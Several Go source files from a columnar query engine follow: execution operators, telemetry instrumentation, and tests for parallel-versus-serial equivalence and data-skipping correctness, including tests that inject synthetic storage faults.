		return "Sort", fmt.Sprintf("%d keys", len(t.Orders))
	case *plan.Limit:
		return "Limit", fmt.Sprintf("%d", t.N)
	case *plan.Distinct:
		return "Distinct", ""
	case *plan.Union:
		return "Union", ""
	}
	return fmt.Sprintf("%T", p), ""
}

// instrumentedOp wraps an operator with wall-time, row and batch accounting.
// Wall time is inclusive of children (the span tree lets a reader subtract).
// The span ends at Close, so its duration covers the operator's full
// lifetime; EOF is a normal end, any other error marks the span failed.
type instrumentedOp struct {
	op    operator
	span  *telemetry.Span
	stats *telemetry.OpStats
}

func (o *instrumentedOp) Next() (*types.Batch, error) {
	start := time.Now()
	b, err := o.op.Next()
	o.stats.AddWall(time.Since(start))
	if err != nil {
		if !errors.Is(err, io.EOF) {
			o.span.Fail(err)
		}
		return b, err
	}
	rows := b.NumRows()
	o.stats.AddBatch(rows)
	o.span.Count("rows", int64(rows))
	o.span.Count("batches", 1)
	return b, nil
}

func (o *instrumentedOp) Close() error {
	err := o.op.Close()
	o.span.End()
	return err
}

// endSpans ends a set of per-worker spans. Callers must establish
// happens-before with the workers' last writes first (exchange.Close's
// WaitGroup join does).
func endSpans(spans []*telemetry.Span) {
	for _, ws := range spans {
		ws.End()
	}
}
