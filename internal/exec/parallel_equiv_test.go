package exec

import (
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"

	"lakeguard/internal/faults"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/security"
	"lakeguard/internal/types"

	"lakeguard/internal/delta"
)

// seedEventsTable creates a multi-file table so the parallel scan actually
// fans out: `files` files of `rowsPerFile` rows with BIGINT, DOUBLE, and
// STRING columns, including NULLs.
func seedEventsTable(t testing.TB, w *world, files, rowsPerFile int) {
	t.Helper()
	schema := types.NewSchema(
		types.Field{Name: "id", Kind: types.KindInt64},
		types.Field{Name: "v", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "score", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "cat", Kind: types.KindString},
	)
	if err := w.cat.CreateTable(adminCtx(), []string{"events"}, schema, false, ""); err != nil {
		t.Fatal(err)
	}
	cats := []string{"alpha", "beta", "gamma", "delta"}
	batches := make([]*types.Batch, files)
	id := int64(0)
	for f := 0; f < files; f++ {
		bb := types.NewBatchBuilder(schema, rowsPerFile)
		for r := 0; r < rowsPerFile; r++ {
			row := []types.Value{
				types.Int64(id),
				types.Int64((id * 37) % 1000),
				types.Float64(float64(id%97) * 1.5),
				types.String(cats[id%int64(len(cats))]),
			}
			if id%13 == 0 {
				row[1] = types.Null(types.KindInt64)
			}
			if id%17 == 0 {
				row[2] = types.Null(types.KindFloat64)
			}
			bb.AppendRow(row)
			id++
		}
		batches[f] = bb.Build()
	}
	if _, err := w.cat.AppendToTable(adminCtx(), []string{"events"}, batches); err != nil {
		t.Fatal(err)
	}
}

// orderedRows renders a batch's rows in their exact output order.
func orderedRows(b *types.Batch) string {
	var sb strings.Builder
	for i := 0; i < b.NumRows(); i++ {
		fmt.Fprintln(&sb, b.Row(i))
	}
	return sb.String()
}

// TestSerialParallelEquivalence asserts the hard determinism contract of the
// morsel exchange: for every query in the corpus, every worker count returns
// row-for-row IDENTICAL results (same rows, same order) as serial execution —
// not just the same multiset.
func TestSerialParallelEquivalence(t *testing.T) {
	w := newWorld(t)
	qschema := types.NewSchema(
		types.Field{Name: "seller", Kind: types.KindString},
		types.Field{Name: "quota", Kind: types.KindFloat64},
	)
	if err := w.cat.CreateTable(adminCtx(), []string{"quotas"}, qschema, false, ""); err != nil {
		t.Fatal(err)
	}
	bb := types.NewBatchBuilder(qschema, 3)
	bb.AppendRow([]types.Value{types.String("ann"), types.Float64(120)})
	bb.AppendRow([]types.Value{types.String("ben"), types.Float64(400)})
	bb.AppendRow([]types.Value{types.String("zoe"), types.Float64(10)})
	if _, err := w.cat.AppendToTable(adminCtx(), []string{"quotas"}, []*types.Batch{bb.Build()}); err != nil {
		t.Fatal(err)
	}
	seedEventsTable(t, w, 16, 64)

	queries := generateQueries(120, 11)
	queries = append(queries,
		// Multi-file scans that exercise each parallel operator shape.
		"SELECT cat, SUM(v) AS total, COUNT(*) AS n, AVG(score) AS s FROM events WHERE v > 250 GROUP BY cat",
		"SELECT SUM(score) AS s, MIN(v) AS lo, MAX(v) AS hi FROM events",
		"SELECT COUNT(DISTINCT cat) AS c, SUM(DISTINCT v) AS sv FROM events WHERE id < 500",
		"SELECT id, v * 2 AS twice, score / 2 AS half FROM events WHERE v >= 100 AND v < 900 AND score IS NOT NULL",
		"SELECT e.id, e.v FROM events e JOIN events f ON e.id = f.v WHERE e.id < 300",
		"SELECT e.cat, q.quota FROM events e LEFT JOIN quotas q ON e.cat = q.seller WHERE e.id % 111 = 0",
		"SELECT id, score FROM events WHERE cat = 'alpha' ORDER BY score DESC, id LIMIT 17 OFFSET 5",
		"SELECT DISTINCT cat FROM events WHERE v > 500 ORDER BY cat",
		"SELECT id FROM events WHERE id < 64 UNION ALL SELECT id FROM events WHERE id >= 960",
		"SELECT v FROM (SELECT v FROM events WHERE v IS NOT NULL) sub WHERE v % 7 = 0 ORDER BY v LIMIT 25",
	)

	type result struct {
		rows string
		err  error
	}
	run := func(q string, workers int) result {
		w.engine.Parallelism = workers
		b, err := w.runWithOptions(q, optimizer.DefaultOptions())
		if err != nil {
			return result{err: err}
		}
		return result{rows: orderedRows(b)}
	}
	for _, q := range queries {
		serial := run(q, 1)
		for _, workers := range []int{2, 8} {
			par := run(q, workers)
			if (serial.err == nil) != (par.err == nil) {
				t.Fatalf("error divergence for %q at workers=%d: serial=%v parallel=%v", q, workers, serial.err, par.err)
			}
			if serial.err != nil {
				continue
			}
			if serial.rows != par.rows {
				t.Fatalf("ordered-result divergence for %q at workers=%d:\nserial:\n%s\nparallel:\n%s",
					q, workers, serial.rows, par.rows)
			}
		}
	}
	w.engine.Parallelism = 0
}

// countingTables wraps a TableProvider and counts file reads.
type countingTables struct {
	inner TableProvider
	reads atomic.Int64
}

func (c *countingTables) OpenSnapshot(ctx security.RequestContext, table string, version int64) (*delta.Snapshot, func(string) (*types.Batch, error), error) {
	snap, read, err := c.inner.OpenSnapshot(ctx, table, version)
	if err != nil {
		return nil, nil, err
	}
	return snap, func(path string) (*types.Batch, error) {
		c.reads.Add(1)
		return read(path)
	}, nil
}

// TestParallelScanChaos injects a storage fault mid-scan and asserts the
// failure contract: exactly one wrapped root-cause error surfaces, and the
// failing worker cancels its siblings before they chew through the remaining
// files.
func TestParallelScanChaos(t *testing.T) {
	w := newWorld(t)
	const files = 64
	seedEventsTable(t, w, files, 32)

	// Fail the 8th data-file read (Delta log reads hit "_delta_log" paths and
	// are left alone so planning succeeds).
	var dataReads atomic.Int64
	injected := fmt.Errorf("%w: synthetic storage outage", faults.ErrInjected)
	w.cat.Store().SetFault(func(op, path string) error {
		if op != "get" || strings.Contains(path, "_delta_log") {
			return nil
		}
		if dataReads.Add(1) == 8 {
			return injected
		}
		return nil
	})
	defer w.cat.Store().SetFault(nil)

	counting := &countingTables{inner: w.cat}
	w.engine.Tables = counting
	w.engine.Parallelism = 4
	defer func() {
		w.engine.Tables = w.cat
		w.engine.Parallelism = 0
	}()

	_, err := w.tryQuery(adminCtx(), "SELECT SUM(v) AS s FROM events")
	if err == nil {
		t.Fatal("expected the injected storage fault to surface")
	}
	if !errors.Is(err, faults.ErrInjected) {
		t.Fatalf("error lost the injected root cause: %v", err)
	}
	if !strings.Contains(err.Error(), "parallel worker") {
		t.Fatalf("error not attributed to a parallel worker: %v", err)
	}
	// Fail-fast: the scan must stop well short of reading every file. The
	// exchange keeps at most ~3x workers morsels in flight past the failure.
	if got := counting.reads.Load(); got >= files {
		t.Fatalf("scan read all %d files despite mid-scan failure (reads=%d); sibling cancellation broken", files, got)
	}
}
