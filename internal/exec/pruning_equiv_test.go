package exec

import (
	"errors"
	"fmt"
	"math"
	"math/rand"
	"strings"
	"sync/atomic"
	"testing"

	"lakeguard/internal/faults"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// seedClusteredTable writes `files` files whose id column is clustered (file
// f holds ids [f*rowsPerFile, (f+1)*rowsPerFile)), so range predicates on id
// genuinely prune. v carries NULLs, score carries NULLs plus NaNs in every
// third file, and cat is a low-cardinality string.
func seedClusteredTable(t testing.TB, w *world, files, rowsPerFile int) {
	t.Helper()
	schema := types.NewSchema(
		types.Field{Name: "id", Kind: types.KindInt64},
		types.Field{Name: "v", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "score", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "cat", Kind: types.KindString},
	)
	if err := w.cat.CreateTable(adminCtx(), []string{"clustered"}, schema, false, ""); err != nil {
		t.Fatal(err)
	}
	cats := []string{"alpha", "beta", "gamma", "delta"}
	batches := make([]*types.Batch, files)
	id := int64(0)
	for f := 0; f < files; f++ {
		bb := types.NewBatchBuilder(schema, rowsPerFile)
		for r := 0; r < rowsPerFile; r++ {
			row := []types.Value{
				types.Int64(id),
				types.Int64((id * 37) % 1000),
				types.Float64(float64(id%97) * 1.5),
				types.String(cats[id%int64(len(cats))]),
			}
			if id%13 == 0 {
				row[1] = types.Null(types.KindInt64)
			}
			if id%17 == 0 {
				row[2] = types.Null(types.KindFloat64)
			}
			if f%3 == 2 && r == rowsPerFile/2 {
				row[2] = types.Float64(math.NaN())
			}
			bb.AppendRow(row)
			id++
		}
		batches[f] = bb.Build()
	}
	if _, err := w.cat.AppendToTable(adminCtx(), []string{"clustered"}, batches); err != nil {
		t.Fatal(err)
	}
}

// generatePruningPredicates builds a randomized corpus of WHERE clauses over
// ints (with NULLs), floats (with NULLs and NaNs), and strings — the shapes
// the zone-map evaluator handles plus shapes it must pass through untouched.
func generatePruningPredicates(n int, seed int64, maxID int) []string {
	rng := rand.New(rand.NewSource(seed))
	cols := []string{"id", "v", "score"}
	ops := []string{"=", "<>", "<", "<=", ">", ">="}
	cmp := func() string {
		c := cols[rng.Intn(len(cols))]
		op := ops[rng.Intn(len(ops))]
		switch c {
		case "id":
			return fmt.Sprintf("id %s %d", op, rng.Intn(maxID+maxID/4))
		case "v":
			return fmt.Sprintf("v %s %d", op, rng.Intn(1100)-50)
		default:
			return fmt.Sprintf("score %s %.1f", op, float64(rng.Intn(300))/2)
		}
	}
	var out []string
	for i := 0; i < n; i++ {
		var p string
		switch rng.Intn(7) {
		case 0:
			p = cmp()
		case 1:
			p = cmp() + " AND " + cmp()
		case 2:
			p = cmp() + " OR " + cmp()
		case 3:
			p = cmp() + " AND (" + cmp() + " OR " + cmp() + ")"
		case 4:
			p = []string{"v IS NULL", "v IS NOT NULL", "score IS NULL", "score IS NOT NULL"}[rng.Intn(4)]
			p += " AND " + cmp()
		case 5:
			p = fmt.Sprintf("cat IN ('alpha', 'nosuch') AND id < %d", rng.Intn(maxID))
		default:
			p = fmt.Sprintf("%d <= id AND id < %d", rng.Intn(maxID), rng.Intn(maxID))
		}
		out = append(out, p)
	}
	return out
}

// TestPruningEquivalence is the data-skipping correctness contract: for a
// randomized predicate corpus over a clustered multi-file table, the pruned
// scan returns row-for-row identical results to the unpruned scan at every
// worker count. Files containing NaN or NULLs must never be wrongly skipped.
func TestPruningEquivalence(t *testing.T) {
	w := newWorld(t)
	const files, rowsPerFile = 24, 48
	seedClusteredTable(t, w, files, rowsPerFile)
	m := telemetry.NewRegistry()
	w.engine.Metrics = m

	preds := generatePruningPredicates(80, 23, files*rowsPerFile)
	preds = append(preds,
		"score = 48.0",        // NaN file overlap: NaN == anything is true in this engine
		"score < 0",           // prunable everywhere except NaN files
		"v IS NULL",           // null-count pruning
		"v IS NOT NULL AND v < 0", // impossible range: every file pruned
		"id >= 100 AND id < 148",  // exactly one file
		"cat = 'nosuch'",      // strings: min/max cover all cats, nothing pruned
	)
	for _, p := range preds {
		q := "SELECT id, v, score, cat FROM clustered WHERE " + p + " ORDER BY id"
		w.engine.DisableSkipping = true
		w.engine.Parallelism = 1
		base, berr := w.runWithOptions(q, optimizer.DefaultOptions())
		w.engine.DisableSkipping = false
		for _, workers := range []int{1, 2, 8} {
			w.engine.Parallelism = workers
			got, gerr := w.runWithOptions(q, optimizer.DefaultOptions())
			if (berr == nil) != (gerr == nil) {
				t.Fatalf("error divergence for %q workers=%d: base=%v pruned=%v", p, workers, berr, gerr)
			}
			if berr != nil {
				continue
			}
			if orderedRows(base) != orderedRows(got) {
				t.Fatalf("pruned scan diverged for %q at workers=%d:\nbase:\n%s\npruned:\n%s",
					p, workers, orderedRows(base), orderedRows(got))
			}
		}
	}
	w.engine.Parallelism = 0
	if m.Counter("scan.files.pruned").Value() == 0 {
		t.Fatal("corpus never pruned a file; the test is not exercising data skipping")
	}
	if m.Counter("scan.files.scanned").Value() == 0 {
		t.Fatal("scan.files.scanned never counted")
	}
}

// TestPruningChaos asserts two fault-interaction contracts: a pruned file is
// never requested from storage at all (its injected fault cannot fire), and a
// fault on a surviving file surfaces exactly once with its root cause intact.
func TestPruningChaos(t *testing.T) {
	w := newWorld(t)
	const files, rowsPerFile = 16, 32
	seedClusteredTable(t, w, files, rowsPerFile)

	// `id >= 96 AND id < 128` lives entirely in the 4th data file (ids 96..127).
	const q = "SELECT SUM(v) AS s FROM clustered WHERE id >= 96 AND id < 128"

	var prunedGets, faultsFired atomic.Int64
	injected := fmt.Errorf("%w: synthetic storage outage", faults.ErrInjected)
	w.cat.Store().SetFault(func(op, path string) error {
		if op != "get" || strings.Contains(path, "_delta_log") || !strings.Contains(path, "clustered") {
			return nil
		}
		if strings.HasSuffix(path, fmt.Sprintf("-%06d.arrow", 4)) { // 4th data file = ids 96..127
			faultsFired.Add(1)
			return injected
		}
		prunedGets.Add(1)
		return nil
	})
	defer w.cat.Store().SetFault(nil)

	w.engine.Parallelism = 4
	defer func() { w.engine.Parallelism = 0 }()
	_, err := w.tryQuery(adminCtx(), q)
	if err == nil {
		t.Fatal("expected the injected fault on the surviving file to surface")
	}
	if !errors.Is(err, faults.ErrInjected) {
		t.Fatalf("error lost the injected root cause: %v", err)
	}
	if n := faultsFired.Load(); n != 1 {
		t.Fatalf("fault fired %d times, want exactly 1", n)
	}
	if n := prunedGets.Load(); n != 0 {
		t.Fatalf("pruned files were fetched %d times; data skipping must avoid the GET entirely", n)
	}
}
