package exec

import (
	"io"
	"sort"

	"lakeguard/internal/delta"
	"lakeguard/internal/eval"
	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// localOp yields one in-memory batch.
type localOp struct {
	batch *types.Batch
	done  bool
}

func (o *localOp) Next() (*types.Batch, error) {
	if o.done {
		return nil, io.EOF
	}
	o.done = true
	return o.batch, nil
}

// batchesOp yields a fixed list of batches (remote results).
type batchesOp struct {
	batches []*types.Batch
	pos     int
}

func (o *batchesOp) Next() (*types.Batch, error) {
	if o.pos >= len(o.batches) {
		return nil, io.EOF
	}
	b := o.batches[o.pos]
	o.pos++
	return b, nil
}

// scanOp reads a table snapshot file by file, applying pushed filters and
// the column projection. Reads go through the credential-bound reader the
// TableProvider vended; the operator never sees the credential itself.
type scanOp struct {
	qc   *QueryContext
	scan *plan.Scan
	snap *delta.Snapshot
	read func(path string) ([]byte, error)
	file int
}

func (o *scanOp) Next() (*types.Batch, error) {
	for o.file < len(o.snap.Files) {
		f := o.snap.Files[o.file]
		o.file++
		data, err := o.read(f.Path)
		if err != nil {
			return nil, err
		}
		b, err := decodeDataFile(data)
		if err != nil {
			return nil, err
		}
		out, err := o.applyScanOps(b)
		if err != nil {
			return nil, err
		}
		if out.NumRows() == 0 {
			continue
		}
		return out, nil
	}
	return nil, io.EOF
}

func (o *scanOp) applyScanOps(b *types.Batch) (*types.Batch, error) {
	// Projection first: when the optimizer prunes columns it remaps the
	// pushed-filter ordinals to the projected layout.
	if o.scan.ProjectedCols != nil {
		cols := make([]*types.Column, len(o.scan.ProjectedCols))
		for i, c := range o.scan.ProjectedCols {
			cols[i] = b.Cols[c]
		}
		b = types.MustBatch(o.scan.Schema(), cols)
	}
	if len(o.scan.PushedFilters) > 0 {
		var keep []int
		n := b.NumRows()
		for i := 0; i < n; i++ {
			row := func(c int) types.Value { return b.Cols[c].Value(i) }
			ok := true
			for _, f := range o.scan.PushedFilters {
				pass, err := eval.EvalPredicate(f, row, o.qc.Eval)
				if err != nil {
					return nil, err
				}
				if !pass {
					ok = false
					break
				}
			}
			if ok {
				keep = append(keep, i)
			}
		}
		b = b.Gather(keep)
	}
	return b, nil
}

// filterOp evaluates a predicate (possibly UDF-bearing) per batch.
type filterOp struct {
	child  operator
	runner *exprRunner
}

func (o *filterOp) Next() (*types.Batch, error) {
	for {
		b, err := o.child.Next()
		if err != nil {
			return nil, err
		}
		cols, err := o.runner.run(b)
		if err != nil {
			return nil, err
		}
		pred := cols[0]
		var keep []int
		for i := 0; i < b.NumRows(); i++ {
			if !pred.IsNull(i) && pred.Int64(i) != 0 {
				keep = append(keep, i)
			}
		}
		if len(keep) == 0 {
			continue
		}
		return b.Gather(keep), nil
	}
}

// projectOp computes output expressions per batch.
type projectOp struct {
	child  operator
	runner *exprRunner
	schema *types.Schema
}

func (o *projectOp) Next() (*types.Batch, error) {
	b, err := o.child.Next()
	if err != nil {
		return nil, err
	}
	cols, err := o.runner.run(b)
	if err != nil {
		return nil, err
	}
	return types.NewBatch(o.schema, cols)
}

// sortOp materializes and sorts its input.
type sortOp struct {
	child  operator
	orders []plan.SortOrder
	qc     *QueryContext
	schema *types.Schema
	sorted *types.Batch
	done   bool
}

func (o *sortOp) Next() (*types.Batch, error) {
	if o.done {
		return nil, io.EOF
	}
	o.done = true
	var rows [][]types.Value
	var keys [][]types.Value
	for {
		b, err := o.child.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return nil, err
		}
		for i := 0; i < b.NumRows(); i++ {
			row := b.Row(i)
			rowFn := func(c int) types.Value { return row[c] }
			key := make([]types.Value, len(o.orders))
			for ki, ord := range o.orders {
				v, err := eval.Eval(ord.Expr, rowFn, o.qc.Eval)
				if err != nil {
					return nil, err
				}
				key[ki] = v
			}
			rows = append(rows, row)
			keys = append(keys, key)
		}
	}
	idx := make([]int, len(rows))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool {
		ka, kb := keys[idx[a]], keys[idx[b]]
		for ki, ord := range o.orders {
			cmp, ok := ka[ki].Compare(kb[ki])
			if !ok {
				continue
			}
			if cmp != 0 {
				if ord.Desc {
					return cmp > 0
				}
				return cmp < 0
			}
		}
		return false
	})
	bb := types.NewBatchBuilder(o.schema, len(rows))
	for _, i := range idx {
		bb.AppendRow(rows[i])
	}
	return bb.Build(), nil
}

// limitOp truncates the stream.
type limitOp struct {
	child   operator
	n       int64
	offset  int64
	skipped int64
	emitted int64
}

func (o *limitOp) Next() (*types.Batch, error) {
	for {
		if o.emitted >= o.n {
			return nil, io.EOF
		}
		b, err := o.child.Next()
		if err != nil {
			return nil, err
		}
		start := 0
		if o.skipped < o.offset {
			need := o.offset - o.skipped
			if int64(b.NumRows()) <= need {
				o.skipped += int64(b.NumRows())
				continue
			}
			start = int(need)
			o.skipped = o.offset
		}
		remaining := o.n - o.emitted
		end := b.NumRows()
		if int64(end-start) > remaining {
			end = start + int(remaining)
		}
		if start == 0 && end == b.NumRows() {
			o.emitted += int64(b.NumRows())
			return b, nil
		}
		o.emitted += int64(end - start)
		return b.Slice(start, end), nil
	}
}

// distinctOp removes duplicate rows via hashing with collision checks.
type distinctOp struct {
	child  operator
	schema *types.Schema
	seen   map[uint64][][]types.Value
}

func (o *distinctOp) Next() (*types.Batch, error) {
	if o.seen == nil {
		o.seen = map[uint64][][]types.Value{}
	}
	for {
		b, err := o.child.Next()
		if err != nil {
			return nil, err
		}
		bb := types.NewBatchBuilder(o.schema, b.NumRows())
		for i := 0; i < b.NumRows(); i++ {
			row := b.Row(i)
			h := hashRow(row)
			dup := false
			for _, prev := range o.seen[h] {
				if rowsEqual(prev, row) {
					dup = true
					break
				}
			}
			if dup {
				continue
			}
			o.seen[h] = append(o.seen[h], row)
			bb.AppendRow(row)
		}
		if bb.Len() == 0 {
			continue
		}
		return bb.Build(), nil
	}
}

// unionOp concatenates child streams.
type unionOp struct {
	children []operator
	pos      int
}

func (o *unionOp) Next() (*types.Batch, error) {
	for o.pos < len(o.children) {
		b, err := o.children[o.pos].Next()
		if err == io.EOF {
			o.pos++
			continue
		}
		return b, err
	}
	return nil, io.EOF
}

func hashRow(row []types.Value) uint64 {
	var h uint64 = 1469598103934665603
	for _, v := range row {
		h = (h ^ v.Hash()) * 1099511628211
	}
	return h
}

func rowsEqual(a, b []types.Value) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if !a[i].Equal(b[i]) {
			return false
		}
	}
	return true
}
